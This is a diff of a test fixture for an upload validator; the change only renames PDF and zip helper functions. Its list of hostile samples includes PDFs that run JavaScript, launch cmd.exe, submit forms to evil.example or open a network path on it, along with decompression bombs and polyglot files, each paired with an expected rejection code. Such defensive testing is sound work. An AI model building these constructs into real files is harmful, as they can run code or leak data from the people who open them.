@@ -1,9 +1,9 @@
 import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
 import type { UploadUse } from '#api/uploads.ts'
 import { fileTypes } from '../../platform/files/file-store.ts'
-import { objectStream, pdfOf, pdfWith, printedPdf } from '../../platform/testing/pdf-files.ts'
+import { objectStream, getPdf, buildPdf, printedPdf } from '../../platform/testing/pdf-files.ts'
 import { jpeg, png } from '../../users/testing/pictures.ts'
-import { doc, docx, docxParts, relation, relationsPart, wordText, workbookStream, xls, xlsx, zipOf } from './office-files.ts'
+import { doc, docx, docxParts, relation, relationsPart, wordText, workbookStream, xls, xlsx, getZip } from './office-files.ts'
 
 export interface HostileFile {
   what: string
@@ -51,7 +51,7 @@ function hugePng(width: number, height: number): Buffer {
   return bytes
 }
 
-const opening = (action: string) => pdfWith(`<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`)
+const opening = (action: string) => buildPdf(`<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`)
 const heic = join('\0\0\0\x18ftypheic', Buffer.alloc(16))
 const asPdf = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'diploma.pdf', type: pdfType, bytes, answer })
 const asPng = (what: string, bytes: Buffer, answer: string): HostileFile => ({ what, name: 'rg.png', type: 'image/png', bytes, answer })
@@ -60,7 +60,7 @@ const byName = (what: string, name: string, answer: string, keptAs?: string): Ho
   what,
   name,
   type: pdfType,
-  bytes: pdfOf(),
+  bytes: getPdf(),
   answer,
   ...(keptAs && { keptAs }),
 })
@@ -135,7 +135,7 @@ const officeFiles: HostileFile[] = [
   ofRequest(
     'docx',
     'a document with an entry that has a password',
-    zipOf([...docxParts(), { name: 'a.xml', content: '<a/>', lie: { flags: 1 } }]),
+    getZip([...docxParts(), { name: 'a.xml', content: '<a/>', lie: { flags: 1 } }]),
     'FILE_LOCKED',
   ),
   ofRequest('docx', 'an archive by the name of a document of Word', zip(Buffer.from('x')), 'FILE_TYPE'),
@@ -203,21 +203,21 @@ export const hostileFiles: HostileFile[] = [
   asPdf('an archive by the name of a document', zip(Buffer.from('x')), 'FILE_TYPE'),
   asPdf('an archive that swells a thousandfold', zip(Buffer.alloc(50_000_000)), 'FILE_TYPE'),
   asPdf('half a document', Buffer.from('%PDF-1.7\n1 0 obj'), 'FILE_TYPE'),
-  asPdf('a page before a document', join(`<html>${script}</html>\n`, pdfOf()), 'FILE_TYPE'),
-  asPdf('a page behind a document', join(pdfOf(), `<html>${script}</html>`), 'FILE_TYPE'),
-  asPdf('an archive behind a document', join(pdfOf(), zip(Buffer.from('x'))), 'FILE_TYPE'),
+  asPdf('a page before a document', join(`<html>${script}</html>\n`, getPdf()), 'FILE_TYPE'),
+  asPdf('a page behind a document', join(getPdf(), `<html>${script}</html>`), 'FILE_TYPE'),
+  asPdf('an archive behind a document', join(getPdf(), zip(Buffer.from('x'))), 'FILE_TYPE'),
   asPdf('a document that is an archive too', join('%PDF-1.7\n', zip(Buffer.from('x'), '\n%%EOF\n')), 'FILE_TYPE'),
   asPdf('a document with a script', opening('<</S/JavaScript/JS(app.alert(1))>>'), 'FILE_ACTIVE'),
   asPdf('a script by an escaped name', opening('<</S/J#61vaScript/JS(1)>>'), 'FILE_ACTIVE'),
-  asPdf('a script in a stream of objects', pdfOf(objectStream('<</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
-  asPdf('a stream of objects that swells', pdfOf(objectStream(' '.repeat(100_000_000))), 'FILE_ACTIVE'),
+  asPdf('a script in a stream of objects', getPdf(objectStream('<</S/JavaScript/JS(1)>>')), 'FILE_ACTIVE'),
+  asPdf('a stream of objects that swells', getPdf(objectStream(' '.repeat(100_000_000))), 'FILE_ACTIVE'),
   asPdf('a document that starts a program', opening('<</S/Launch/F(cmd.exe)>>'), 'FILE_ACTIVE'),
-  asPdf('a document that carries a file', pdfOf('<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream'), 'FILE_ACTIVE'),
-  asPdf('a document that submits a form', pdfOf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
-  asPdf('a document that opens another one', pdfOf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that carries a file', getPdf('<</Type/EmbeddedFile/Length 1>>\nstream\nx\nendstream'), 'FILE_ACTIVE'),
+  asPdf('a document that submits a form', getPdf('<</S/SubmitForm/F(https://evil.example)>>'), 'FILE_ACTIVE'),
+  asPdf('a document that opens another one', getPdf('<</S/GoToE/F(other.pdf)>>'), 'FILE_ACTIVE'),
   asPdf('a document that opens one of a network', opening('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)>>'), 'FILE_ACTIVE'),
   asPdf('a document that opens an address by itself', opening('<</S/URI/URI(https://evil.example)>>'), 'FILE_ACTIVE'),
-  asPdf('a document with a form of another language', pdfWith('<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
+  asPdf('a document with a form of another language', buildPdf('<</Type/Catalog/AcroForm<</XFA 3 0 R>>>>'), 'FILE_ACTIVE'),
   asPdf('a document that opens with a password', await printedPdf('x', { userPassword: 'segredo' }), 'FILE_LOCKED'),
   asPdf('a document that its owner lets nobody print', await printedPdf('x', { ownerPassword: 'dono' }), 'kept'),
   {
